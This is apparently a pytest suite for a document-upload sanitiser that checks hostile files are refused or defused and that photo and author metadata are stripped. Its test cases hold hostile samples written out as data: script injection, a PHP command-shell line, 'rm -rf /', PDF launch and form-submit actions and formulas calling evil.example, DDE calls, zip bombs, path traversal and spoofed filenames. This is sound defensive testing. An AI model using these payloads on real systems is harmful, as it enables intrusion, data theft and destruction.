"""Uploads that are refused, or harmless once they are taken: each by the name of its attack (attacks E3 to E5, E7)."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import pytest
from papers import OFFICE_RELS, RELS, docx, odt, packed, pdf, picture, xlsx
from PIL import Image

from node import attaching
from node.attaching import Prepared
from node.errors import AttachmentRefused

SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"


def prepare(data: bytes, filename: str, declared: str = "") -> Prepared:
    return attaching.prepare(
        data, filename, declared, title="Guide", language="fr", alt="Une salle", shows_persons=False
    )


def external(kind: str, target: str, **more: str) -> str:
    return (
        f'<Relationships xmlns="{RELS}"><Relationship Id="r1" Type="{OFFICE_RELS}/{kind}" Target="{target}" '
        f'TargetMode="External"/></Relationships>'
    )


def png_of(width: int, height: int) -> bytes:
    """A PNG that says it is this large, and holds a few bytes."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = zlib.compress(bytes(1000))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def zip_bomb() -> bytes:
    return docx("x", word_document__xml=b"<w>" + b" " * 90_000_000 + b"</w>")


def folded() -> bytes:
    return docx("x", word_styles__xml=b"<w>" + b" " * 20_000_000 + b"</w>")


def lying_zip() -> bytes:
    """A part that unfolds to more than the list of the archive says."""
    data = bytearray(docx("x", word_styles__xml=b"<w>" + b"y" * 5_000 + b"</w>"))
    at = data.rfind(b"word/styles.xml") - 46
    data[at + 24 : at + 28] = (10).to_bytes(4, "little")
    return bytes(data)


def many_parts() -> bytes:
    return packed(
        {"[Content_Types].xml": "<T/>", "word/document.xml": "<w/>"} | {f"word/{n}.xml": "<x/>" for n in range(3_001)}
    )


def symlink() -> bytes:
    out = io.BytesIO(docx("x"))
    with zipfile.ZipFile(out, "a") as archive:
        info = zipfile.ZipInfo("word/media/link.png")
        info.external_attr = 0o120777 << 16
        archive.writestr(info, "/etc/passwd")
    return out.getvalue()


def twice_named() -> bytes:
    out = io.BytesIO(docx("x"))
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("WORD/document.xml", "<w/>")
    return out.getvalue()


def encrypted_zip() -> bytes:
    data = bytearray(docx("x"))
    at = data.find(b"PK\x01\x02")
    data[at + 8] |= 1
    return bytes(data)


def encrypted_pdf() -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf("secret"))))
    writer.encrypt("geheim", algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


JS = {10: b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"}
LAUNCH = {10: b"<< /S /Launch /F (cmd.exe) >>"}
SUBMIT = {10: b"<< /S /SubmitForm /F (https://evil.example/) >>"}
REMOTE = {10: b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) >>"}
ODD_LINK = {10: b"<< /S /URI /URI (file:///etc/passwd) >>"}
EMBEDDED = {
    10: b"<< /EmbeddedFiles << /Names [(evil.exe) 11 0 R] >> >>",
    11: b"<< /Type /Filespec /F (evil.exe) /EF << /F 12 0 R >> >>",
    12: b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
}
FILM = {10: b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 1 1] >>"}
BOMB_PAGE = zlib.compress(b"q " * 60_000_000, 9)
BOMB_STREAM = {4: b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(BOMB_PAGE), BOMB_PAGE)}
LOOP = {10: b"<< /Kids [10 0 R] >>"}

EMPTY, TYPE, DISGUISED, DAMAGED = "attachment_empty", "attachment_type", "attachment_disguised", "attachment_damaged"
ACTIVE, FORMULA, ENCRYPTED = "attachment_active", "attachment_formula", "attachment_encrypted"
BOMB, TOO_LARGE = "attachment_bomb", "attachment_too_large"


@dataclass(frozen=True)
class Case:
    """One upload by the name of its attack. `declared`: what it is sent as."""

    name: str
    make: Callable[[], bytes]
    filename: str
    code: str
    declared: str = ""


REFUSED = [
    Case("nothing", lambda: b"", "guide.pdf", EMPTY),
    Case("SVG", lambda: SVG, "logo.svg", TYPE, "image/svg+xml"),
    Case("SVG disguised as a PNG", lambda: SVG, "logo.png", TYPE, "image/png"),
    Case("HTML disguised as a CSV", lambda: HTML, "table.csv", TYPE, "text/csv"),
    Case("HTML disguised as a JPEG", lambda: HTML, "photo.jpg", TYPE, "image/jpeg"),
    Case("HTML in UTF-16 as a CSV", lambda: HTML.decode().encode("utf-16"), "table.csv", TYPE),
    Case("HTML after a row of a CSV", lambda: b"a;b\n1;2\n" + HTML, "table.csv", TYPE),
    Case("an XML file as a CSV", lambda: b"<?xml version='1.0'?><a/>", "a.csv", TYPE),
    Case("a PHP file as a CSV", lambda: b"<?php system($_GET[0]);", "a.csv", TYPE),
    Case("a shell script as a CSV", lambda: b"#!/bin/sh\nrm -rf /\n", "a.csv", TYPE),
    Case("an RTF as a CSV", lambda: b"{\\rtf1\\object}", "a.csv", TYPE),
    Case("a Windows program", lambda: b"MZ\x90\x00" + bytes(300), "setup.pdf", TYPE),
    Case("a GIF", lambda: b"GIF89a" + bytes(40), "a.gif", TYPE, "image/gif"),
    Case("a PDF whose header is not at its beginning", lambda: b"\n\n" + pdf("x"), "guide.pdf", DISGUISED),
    Case("HTML in front of a PDF", lambda: HTML + pdf("x"), "guide.pdf", TYPE),
    Case(
        "HTML within the head of a PDF",
        lambda: pdf("x").replace(b"\n%\xe2", b"\n%" + HTML + b"\n%\xe2"),
        "a.pdf",
        DISGUISED,
    ),
    Case("a PDF that is an archive too", lambda: pdf("x") + docx("y"), "guide.pdf", DISGUISED),
    Case("something behind a PDF", lambda: pdf("x") + b"<script>alert(1)</script>", "guide.pdf", DISGUISED),
    Case("a PDF without its end", lambda: pdf("x")[:-30], "guide.pdf", DAMAGED),
    Case("a PDF of noise", lambda: b"%PDF-1.7\n" + bytes(range(256)) * 9 + b"\n%%EOF", "guide.pdf", DAMAGED),
    Case("a PDF with JavaScript", lambda: pdf("x", catalog="/OpenAction 10 0 R", objects=JS), "a.pdf", ACTIVE),
    Case("a PDF that launches", lambda: pdf("x", catalog="/OpenAction 10 0 R", objects=LAUNCH), "a.pdf", ACTIVE),
    Case("a PDF that sends a form", lambda: pdf("x", catalog="/OpenAction 10 0 R", objects=SUBMIT), "a.pdf", ACTIVE),
    Case("a PDF that opens a share", lambda: pdf("x", catalog="/OpenAction 10 0 R", objects=REMOTE), "a.pdf", ACTIVE),
    Case(
        "a PDF that links to files", lambda: pdf("x", catalog="/OpenAction 10 0 R", objects=ODD_LINK), "a.pdf", ACTIVE
    ),
    Case("a PDF with a file in it", lambda: pdf("x", catalog="/Names 10 0 R", objects=EMBEDDED), "a.pdf", ACTIVE),
    Case("a PDF with a film", lambda: pdf("x", catalog="/Extra 10 0 R", objects=FILM), "a.pdf", ACTIVE),
    Case("a PDF whose page is a bomb", lambda: pdf("x", objects=BOMB_STREAM), "a.pdf", BOMB),
    Case("a PDF form with XFA", lambda: pdf("x", catalog="/AcroForm << /XFA (x) >>"), "a.pdf", ACTIVE),
    Case("a PDF behind a password", encrypted_pdf, "a.pdf", ENCRYPTED),
    Case("a zip bomb", zip_bomb, "a.docx", BOMB),
    Case("a part that is folded a thousand times", folded, "a.docx", BOMB),
    Case("an archive of three thousand parts", many_parts, "a.docx", BOMB),
    Case("a part that is longer than it says", lying_zip, "a.docx", DAMAGED),
    Case(
        "a part that climbs out",
        lambda: packed({"[Content_Types].xml": "<T/>", "word/document.xml": "<w/>", "../../evil": "x"}),
        "a.docx",
        DISGUISED,
    ),
    Case("a part that is a link", symlink, "a.docx", DISGUISED),
    Case("two parts of one name", twice_named, "a.docx", DISGUISED),
    Case("an archive behind a password", encrypted_zip, "a.docx", ENCRYPTED),
    Case("a plain archive", lambda: packed({"evil.exe": "MZ"}), "a.docx", TYPE),
    Case("something in front of an archive", lambda: HTML + docx("x"), "a.docx", TYPE),
    Case("something behind an archive", lambda: docx("x") + HTML, "a.docx", DISGUISED),
    Case("a JAR named DOCX", lambda: docx("x", Evil__class=b"\xca\xfe\xba\xbe"), "a.docx", ACTIVE),
    Case("a DOCX with macros", lambda: docx("x", word_vbaProject__bin=b"\xd0\xcf"), "a.docx", ACTIVE),
    Case("a DOCX with an OLE object", lambda: docx("x", word_embeddings_oleObject1__bin=b"x"), "a.docx", ACTIVE),
    Case(
        "a DOCX whose template is elsewhere",
        lambda: docx("x", word__rels_settings__xml__rels=external("attachedTemplate", "https://evil.example/t.dotm")),
        "a.docx",
        ACTIVE,
    ),
    Case(
        "a DOCX with a picture from elsewhere",
        lambda: docx("x", word_r_document__xml__rels=external("image", "https://evil.example/p.png")),
        "a.docx",
        ACTIVE,
    ),
    Case(
        "a DOCX with a link to a program",
        lambda: docx("x", word_r_document__xml__rels=external("hyperlink", "ms-msdt:/id")),
        "a.docx",
        ACTIVE,
    ),
    Case(
        "a DOCX with DDE",
        lambda: docx("</w:t><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\cmd.exe</w:instrText><w:t>"),
        "a.docx",
        ACTIVE,
    ),
    Case(
        "a DOCX with entities",
        lambda: docx("x", word_styles__xml='<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'),
        "a.docx",
        ACTIVE,
    ),
    Case(
        "an XLSX with an outside book", lambda: xlsx("x", xl_externalLinks_externalLink1__xml="<e/>"), "a.xlsx", ACTIVE
    ),
    Case(
        "an XLSX that calls an address",
        lambda: xlsx("x", formula="WEBSERVICE(&quot;https://evil.example&quot;)"),
        "a.xlsx",
        ACTIVE,
    ),
    Case("an XLSX with DDE", lambda: xlsx("x", formula="cmd|'/c calc'!A1"), "a.xlsx", ACTIVE),
    Case("an ODT with Basic", lambda: odt("x", Basic_Standard_Module1__xml="<x/>"), "a.odt", ACTIVE),
    Case("an ODT with a script", lambda: odt("x", more="<script:event-listener/>"), "a.odt", ACTIVE),
    Case(
        "an ODT with a picture from elsewhere",
        lambda: odt("x", more='<draw:image xlink:href="https://evil.example/x.png"/>'),
        "a.odt",
        ACTIVE,
    ),
    Case("a CSV that calls a program", lambda: b"nom;valeur\nx;=cmd|'/c calc'!A1\n", "a.csv", FORMULA),
    Case(
        "a CSV with a link formula", lambda: b'nom,valeur\nx,"=HYPERLINK(""https://evil.example"")"\n', "a.csv", FORMULA
    ),
    Case("a picture of a thousand million points", lambda: png_of(40_000, 30_000), "a.png", BOMB),
    Case("a picture that ends early", lambda: picture()[:400], "a.jpg", DAMAGED),
    Case("a JPEG that is an archive too (GIFAR)", lambda: picture() + docx("x"), "a.jpg", DISGUISED),
    Case("a JPEG named PNG", picture, "a.png", DISGUISED),
    Case("a JPEG sent as HTML", picture, "a.jpg", DISGUISED, "text/html"),
    Case("a name with two endings", picture, "photo.php.jpg", DISGUISED),
    Case("a name that turns round", picture, "photo\u202egpj.jpg", DISGUISED),
    Case("a name that ends in EXE", picture, "photo.jpg.exe", TYPE),
    Case("a name with a null", picture, "photo.jpg\x00.png", DISGUISED),
    Case("a name without ending", picture, "photo", DISGUISED),
    Case("a byte more than 10 MiB", lambda: bytes(10 * 2**20 + 1), "a.jpg", TOO_LARGE),
]


@pytest.mark.parametrize("case", REFUSED, ids=lambda case: case.name)
def test_hostile_upload_is_refused(case: Case) -> None:
    with pytest.raises(AttachmentRefused) as refused:
        prepare(case.make(), case.filename, case.declared)
    assert refused.value.code == case.code, refused.value.message


def appended(data: bytes) -> bytes:
    return data + b"<script>alert(4711)</script>"


HARMLESS: list[tuple[str, Callable[[], bytes], str]] = [
    ("a JPEG with a script behind its end", lambda: appended(picture()), "a.jpg"),
    ("a JPEG with a script in its comment", lambda: picture().replace(b"Commentaire4711", b"<script>4711</s"), "a.jpg"),
    ("a PNG with a script behind its end", lambda: appended(picture("PNG")), "a.png"),
    ("a WebP with a script behind its end", lambda: appended(picture("WEBP")), "a.webp"),
    ("a name with a path", picture, "../../etc/passwd/photo.jpg"),
    ("a PDF that refers to itself", lambda: pdf("x", catalog="/Extra 10 0 R", objects=LOOP), "a.pdf"),
]


@pytest.mark.parametrize(("name", "make", "filename"), HARMLESS, ids=[case[0] for case in HARMLESS])
def test_hostile_upload_is_harmless_once_it_is_taken(name: str, make: Callable[[], bytes], filename: str) -> None:
    taken = prepare(make(), filename)
    assert b"script" not in taken.data
    assert b"4711" not in taken.data
    assert "/" not in taken.sha256


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP"])
def test_photograph_with_gps_comes_out_without(kind: str) -> None:
    given = picture(kind, (200, 100), turn=6)
    assert b"Appareil4711" in given
    taken = prepare(given, f"photo.{kind.lower()}")
    assert {"gps", "exif"} <= set(taken.removed)
    for trace in (b"4711", b"Exif", b"GPS", b"2026:01:02"):
        assert trace not in taken.data
    with Image.open(io.BytesIO(taken.data)) as made:
        assert not made.getexif()
        assert made.size == (100, 200), "the turn that EXIF asks for was carried out"


def test_large_photograph_is_made_smaller() -> None:
    taken = prepare(picture(size=(4_000, 2_000)), "photo.jpg")
    with Image.open(io.BytesIO(taken.data)) as made:
        assert made.size == (3_000, 1_500)


@pytest.mark.parametrize(
    ("make", "filename"),
    [(pdf, "a.pdf"), (docx, "a.docx"), (odt, "a.odt"), (xlsx, "a.xlsx")],
    ids=["pdf", "docx", "odt", "xlsx"],
)
def test_document_keeps_its_words_and_loses_its_author(make: Callable[..., bytes], filename: str) -> None:
    given = make("Charte des médiateurs", "Guichet de Tiznit")
    taken = prepare(given, filename)
    assert taken.content["text"] == ["Charte des médiateurs\nGuichet de Tiznit"]
    members = [taken.data]
    if given.startswith(b"PK"):
        with zipfile.ZipFile(io.BytesIO(taken.data)) as archive:
            assert archive.testzip() is None
            members = [archive.read(name) for name in archive.namelist()]
    assert not any(b"Amina" in member for member in members)
    again = prepare(taken.data, filename)
    assert again.sha256 == taken.sha256 or filename == "a.pdf", "what is clean already stays as it is"


def test_photograph_within_a_document_loses_its_notes() -> None:
    photograph = picture()
    taken = prepare(docx("x", word_media_image1__jpeg=photograph), "a.docx")
    with zipfile.ZipFile(io.BytesIO(taken.data)) as archive:
        inside = archive.read("word/media/image1.jpeg")
    assert b"4711" not in inside
    with Image.open(io.BytesIO(inside)) as made, Image.open(io.BytesIO(photograph)) as given:
        assert made.tobytes() == given.tobytes()
    stream = b"<< /Type /XObject /Subtype /Image /Width 64 /Height 48 /ColorSpace /DeviceRGB /BitsPerComponent 8 "
    stream += b"/Filter /DCTDecode /Length %d >>\nstream\n%s\nendstream" % (len(photograph), photograph)
    taken = prepare(pdf("x", catalog="/Extra 10 0 R", objects={10: stream}), "a.pdf")
    assert "exif" in taken.removed
    assert b"4711" not in taken.data


def test_table_of_an_old_spreadsheet_becomes_utf8() -> None:
    taken = attaching.prepare("Şehir;Üye\nİstanbul;3\n".encode("cp1254"), "t.csv", title="T", language="tr")
    assert taken.data.decode() == "Şehir;Üye\nİstanbul;3\n"
    assert taken.content["text"] == ["Şehir Üye\nİstanbul 3"]


@pytest.mark.parametrize(
    ("given", "code"),
    [
        ({"title": " "}, "title_missing"),
        ({"alt": ""}, "alt_missing"),
        ({"shows_persons": None}, "persons_unsaid"),
        ({"shows_persons": True}, "consent_missing"),
    ],
)
def test_picture_of_which_something_is_not_said_is_refused(given: dict[str, object], code: str) -> None:
    said = {"title": "T", "language": "fr", "alt": "Une salle", "shows_persons": False} | given
    with pytest.raises(AttachmentRefused) as refused:
        attaching.prepare(picture(), "a.jpg", **said)  # type: ignore[arg-type]
    assert refused.value.code == code
